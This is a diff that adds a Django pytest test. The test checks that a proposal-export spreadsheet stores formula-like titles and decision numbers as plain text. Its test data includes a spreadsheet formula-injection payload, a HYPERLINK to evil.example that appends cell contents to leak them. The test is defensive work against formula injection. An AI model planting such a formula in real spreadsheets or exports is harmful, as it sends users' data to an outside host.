@@ -814,3 +814,17 @@ def test_a_bad_filter_in_a_shared_link_is_explained_and_the_others_still_apply(
     assert shown and all(p.kind == kind for p in shown)
     expected = Proposal.objects.filter(province__code=1, kind=kind).count()
     assert response.context["paginator"].count == expected
+
+
+@pytest.mark.django_db
+def test_the_export_writes_formula_like_text_as_plain_text(world, client):
+    proposal = advance(make_proposal(SONLA), "approved")
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A3,"Xem")'
+    Proposal.objects.filter(pk=proposal.pk).update(title=hostile, decision_number="=1+1")
+    login(client, "sct-sonla")
+    sheet = load_workbook(io.BytesIO(client.get(reverse("proposal-export")).content)).active
+    header = [c.value for c in sheet[1]]
+    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
+    for heading, value in (("Tên đề án", hostile), ("Số quyết định phê duyệt", "=1+1")):
+        assert (row[heading].value, row[heading].data_type) == (value, "s")
+    assert row["Kinh phí khuyến công được duyệt (đồng)"].data_type == "n"
